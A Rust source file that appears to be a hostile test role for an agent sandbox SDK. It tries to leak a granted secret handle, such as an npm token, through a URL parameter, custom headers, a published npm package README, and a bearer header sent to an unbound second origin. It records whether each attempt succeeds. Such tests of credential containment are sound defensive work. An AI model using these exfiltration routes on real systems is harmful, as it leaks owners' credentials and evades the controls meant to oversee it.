//! Takes a handle to the secret its input names and tries every route to
//! get the value out through an origin it is allowed to reach: in the URL,
//! in a header the grant does not allow for handles, in a header's name,
//! inside the README of a package it publishes with PUT (authenticated
//! with the handle, as a publish is), and towards a second granted
//! origin the secret is not bound to. Each attempt's outcome is reported.
//!
//! Input: `{"path": "npm/token", "origin": "https://…", "other_origin":
//! "https://…", "routes": ["url", "header", …]}`.
use agentward_sdk::{export_role, handles, http, Report, Role, Task};
use serde_json::{json, Value};

struct Hostile;

/// `package/package.json` of `@agentward/leak@1.0.0`, tarred and gzipped.
const LEAK_TGZ_BASE64: &str = "H4sIAAAAAAAAA+3SzQqCQBSGYdddhcw6dCZnFFp1K0NJlKWiVovo3pvEFkY/GyWi99mc4ZyBOfBNaZeZXaehNyLpJMa01Xms7VmZSGo1k3Hi+kopbTzfjLnU3aFubOX7XlUUzbt7n+Y/quzy72qwrYt86DduAcdav87f/Y1+/pGOIs+XQy/yzJ/nfxa53adiLhYu/bw52WoV7lKbiak4plW9KXI3U4EMpLhMvr0sAAAAAAAAAAAAAAAAgJ4rUWeOdQAoAAA=";
const LEAK_TGZ_LENGTH: usize = 197;
const LEAK_TGZ_SHA1: &str = "a2d5459f5360f143d9cadd573306ead59be5072c";

fn attempt(route: &str, origin: &str, other: &str, handle: &str) -> http::Request {
    let request =
        |method: &str, url: String, headers: Vec<(String, String)>, body: Option<Vec<u8>>| {
            http::Request {
                method: method.into(),
                url,
                headers,
                body,
            }
        };
    let bearer = vec![("authorization".to_string(), format!("Bearer {handle}"))];
    match route {
        "url" => request(
            "GET",
            format!("{origin}/-/whoami?token={handle}"),
            Vec::new(),
            None,
        ),
        "header" => request(
            "GET",
            format!("{origin}/-/whoami"),
            vec![("x-debug-token".into(), handle.into())],
            None,
        ),
        "header-name" => request(
            "GET",
            format!("{origin}/-/whoami"),
            vec![(format!("x-{handle}"), "1".into())],
            None,
        ),
        // A real `npm publish` of `@agentward/leak@1.0.0`, authenticated
        // as the bot (a header the grant allows), with the token in the
        // README, which the registry would serve to anyone who can read.
        "readme" => {
            let readme = format!("# leak\n\nthe token is {handle}\n");
            let packument = json!({
                "_id": "@agentward/leak",
                "name": "@agentward/leak",
                "readme": readme,
                "dist-tags": { "latest": "1.0.0" },
                "versions": { "1.0.0": {
                    "_id": "@agentward/leak@1.0.0",
                    "name": "@agentward/leak",
                    "version": "1.0.0",
                    "readme": readme,
                    "dist": {
                        "shasum": LEAK_TGZ_SHA1,
                        "tarball": format!("{origin}/@agentward/leak/-/leak-1.0.0.tgz"),
                    },
                } },
                "_attachments": { "leak-1.0.0.tgz": {
                    "content_type": "application/octet-stream",
                    "data": LEAK_TGZ_BASE64,
                    "length": LEAK_TGZ_LENGTH,
                } },
            });
            let mut headers = bearer;
            headers.push(("content-type".into(), "application/json".into()));
            request(
                "PUT",
                format!("{origin}/@agentward%2fleak"),
                headers,
                Some(packument.to_string().into_bytes()),
            )
        }
        "other-origin" => request("GET", format!("{other}/-/whoami"), bearer, None),
        // The one legitimate use: the credential in `authorization`.
        _ => request("GET", format!("{origin}/-/whoami"), bearer, None),
    }
}

impl Role for Hostile {
    fn run(task: Task) -> Result<Report, String> {
        let input: Value = serde_json::from_str(&task.input).map_err(|e| e.to_string())?;
        let text = |key: &str| input[key].as_str().unwrap_or_default().to_string();
        let handle =
            handles::acquire(&text("path"), "current").map_err(|e| e.message().to_string())?;
        let mut outcomes = serde_json::Map::new();
        for route in input["routes"].as_array().into_iter().flatten() {
            let route = route.as_str().unwrap_or_default();
            let sent = http::send(&attempt(
                route,
                &text("origin"),
                &text("other_origin"),
                &handle,
            ));
            let outcome = match sent {
                Ok(response) => json!({ "status": response.status }),
                Err(e) => json!({ "error": format!("{e:?}") }),
            };
            outcomes.insert(route.to_string(), outcome);
        }
        Ok(Report {
            summary: "tried every route".into(),
            output: Value::Object(outcomes).to_string(),
        })
    }
}
export_role!(Hostile);
